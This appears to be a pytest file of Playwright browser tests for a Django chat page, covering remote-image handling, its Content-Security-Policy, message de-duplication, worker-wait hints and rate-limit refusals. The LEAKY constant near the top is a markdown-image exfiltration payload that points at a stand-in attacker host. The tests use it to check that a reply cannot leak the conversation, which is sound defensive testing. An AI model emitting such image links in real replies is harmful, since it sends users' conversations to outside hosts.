"""The chat page in Chromium (Playwright + Debian chromium, skipped when either is missing): a reply's remote image
is never fetched, the page's Content-Security-Policy holds, two messages sent quickly show once each, and a run no
worker picks up says so."""

from __future__ import annotations

import base64
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.browser import launch
from tests.example_project.test_example_project import _log_in, manage, served_project
from tests.robotlab_django.settings import REDIS_PREFIX

#: A reply that would send the conversation out if the page fetched its image by itself.
LEAKY = "Look: ![chart](https://attacker.example/p.png?leak=the-conversation) done"
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")
#: An image the page's own script adds: only the Content-Security-Policy stops this one.
DIRECT_IMAGE = """(url) => new Promise((resolve) => {
  const image = new Image();
  image.onload = () => resolve("loaded");
  image.onerror = () => resolve("blocked");
  image.src = url;
  document.body.appendChild(image);
})"""


@pytest.fixture
def site(tmp_path: Path) -> Iterator[str]:
    """The example project served by daphne (in-process executor, demo model), with its demo user."""
    pytest.importorskip("playwright.sync_api")
    manage(tmp_path, "migrate", "--noinput")
    manage(tmp_path, "demo_user")
    with served_project(tmp_path) as url:
        yield url


def test_a_remote_image_in_a_reply_is_a_link_and_nothing_reaches_its_host(site: str) -> None:
    from playwright.sync_api import expect, sync_playwright

    with sync_playwright() as playwright:
        browser = launch(playwright)
        try:
            page = browser.new_page()
            page.set_default_timeout(20_000)
            remote: list[str] = []

            def attacker(route: Any) -> None:  # what reaches the network for the host; it would get its image
                remote.append(route.request.url)
                route.fulfill(status=200, content_type="image/png", body=PNG)

            page.route("https://attacker.example/**", attacker)
            _log_in(page, site, "chat")
            policy = page.request.get(page.url).headers["content-security-policy"]
            assert "default-src 'self'" in policy and "img-src 'self' data: blob:" in policy
            expect(page.locator("#rl-connection")).to_have_text("live")  # connect-src lets the websocket in
            page.fill("#rl-input", LEAKY)
            page.click("#rl-send")
            reply = page.locator(".rl-message.assistant .rl-text").last
            expect(reply).to_contain_text("to talk to a real model.")
            for _ in range(2):  # live, then as the server renders the history
                link = reply.locator("a.rl-remote-image")
                expect(link).to_have_text("Image: chart")
                expect(link).to_have_attribute("href", "https://attacker.example/p.png?leak=the-conversation")
                assert set((link.get_attribute("rel") or "").split()) >= {"noopener", "noreferrer"}
                assert page.locator(".rl-message img").count() == 0
                page.reload()
                reply = page.locator(".rl-message.assistant .rl-text").last
            assert page.evaluate(DIRECT_IMAGE, "https://attacker.example/direct.png") == "blocked"
            assert page.evaluate(DIRECT_IMAGE, "data:image/png;base64," + base64.b64encode(PNG).decode()) == "loaded"
            assert remote == []
        finally:
            browser.close()


def test_two_messages_sent_quickly_show_one_bubble_each(site: str) -> None:
    """The runs' events may come over the websocket before the POSTs answer: each message still shows once."""
    from playwright.sync_api import expect, sync_playwright

    with sync_playwright() as playwright:
        browser = launch(playwright)
        try:
            page = browser.new_page()
            page.set_default_timeout(20_000)
            _log_in(page, site, "chat")
            expect(page.locator("#rl-connection")).to_have_text("live")
            held: list[tuple[Any, Any]] = []

            def hold(route: Any) -> None:  # the server takes the message; its answer reaches the page later
                held.append((route, route.fetch()))

            page.route("**/messages/", hold)
            page.fill("#rl-input", "first message")
            page.press("#rl-input", "Enter")
            page.fill("#rl-input", "second message")
            page.press("#rl-input", "Enter")
            replies = page.locator(".rl-message.assistant .rl-text")
            expect(replies).to_have_count(2)
            expect(replies.nth(1)).to_contain_text("to talk to a real model.")  # both runs streamed in
            assert len(held) == 2
            for route, response in held:
                route.fulfill(response=response)
            page.unroute("**/messages/")
            # a third message, answered at once: the page has handled the two answers before this one's
            page.fill("#rl-input", "third message")
            page.press("#rl-input", "Enter")
            expect(replies).to_have_count(3)
            expect(replies.nth(2)).to_contain_text("to talk to a real model.")
            sent = ["first message", "second message", "third message"]
            expect(page.locator(".rl-message.user .rl-text")).to_have_text(sent)
            expect(page.locator(".rl-message.assistant .rl-status")).to_have_text(["", "", ""])
            expect(page.locator(".rl-message.assistant .rl-cancel")).to_have_count(0)
            page.reload()
            expect(page.locator(".rl-message.user .rl-text")).to_have_text(sent)
        finally:
            browser.close()


def test_the_page_says_when_no_worker_picks_a_run_up(tmp_path: Path) -> None:
    """The celery executor with no worker: after WORKER_WAIT_HINT (10 s) the reply says so instead of "queued"."""
    import socket

    from playwright.sync_api import expect, sync_playwright

    try:
        socket.create_connection(("127.0.0.1", 6379), timeout=3).close()
    except OSError as exc:
        pytest.skip(f"needs the Redis on 127.0.0.1:6379: {exc}")
    pytest.importorskip("playwright.sync_api")
    # names of this test run's own (REDIS_PREFIX: Celery's keys and control channel, the layer's channels): no other
    # checkout's worker takes the run or answers for the queue, whatever database it uses
    redis = {"REDIS_URL": "redis://127.0.0.1:6379/6", "ROBOTLAB_EXECUTOR": "celery", "REDIS_PREFIX": f"{REDIS_PREFIX}:"}
    manage(tmp_path, "migrate", "--noinput", **redis)
    manage(tmp_path, "demo_user", **redis)
    with served_project(tmp_path, **redis) as url, sync_playwright() as playwright:
        browser = launch(playwright)
        try:
            page = browser.new_page()
            page.set_default_timeout(20_000)
            _log_in(page, url, "chat")
            page.fill("#rl-input", "Is anybody there?")
            page.click("#rl-send")
            status = page.locator(".rl-message.assistant .rl-status").last
            expect(status).to_have_text("queued")
            expect(status).to_contain_text("No worker has picked this run up", timeout=30_000)
            expect(status).to_contain_text("-Q default")
            expect(page.locator(".rl-message.assistant.waiting")).to_have_count(1)
        finally:
            browser.close()
            import redis as redis_client

            # the message no worker took (kombu's key for the queue "default" under the prefix)
            redis_client.Redis.from_url(redis["REDIS_URL"]).delete(f"{redis['REDIS_PREFIX']}default")


def test_a_refused_message_comes_back_to_the_box(site: str) -> None:
    """A message the server refuses (429 from the rate limit) is not lost: the page shows why and gives it back."""
    from playwright.sync_api import expect, sync_playwright

    refusal = '{"error": "Too many runs: at most 30 every 60 seconds; try again in 12 seconds.", "retry_after": 12}'
    with sync_playwright() as playwright:
        browser = launch(playwright)
        try:
            page = browser.new_page()
            page.set_default_timeout(20_000)
            _log_in(page, site, "chat")
            page.route("**/messages/", lambda route: route.fulfill(status=429, content_type="application/json",
                                                                   headers={"Retry-After": "12"}, body=refusal))
            page.fill("#rl-input", "a long message I do not want to type again")
            page.press("#rl-input", "Enter")
            expect(page.locator(".rl-message.failed .rl-error")).to_have_text(
                "Too many runs: at most 30 every 60 seconds; try again in 12 seconds.")
            expect(page.locator("#rl-input")).to_have_value("a long message I do not want to type again")
            expect(page.locator(".rl-message.user")).to_have_count(0)
        finally:
            browser.close()
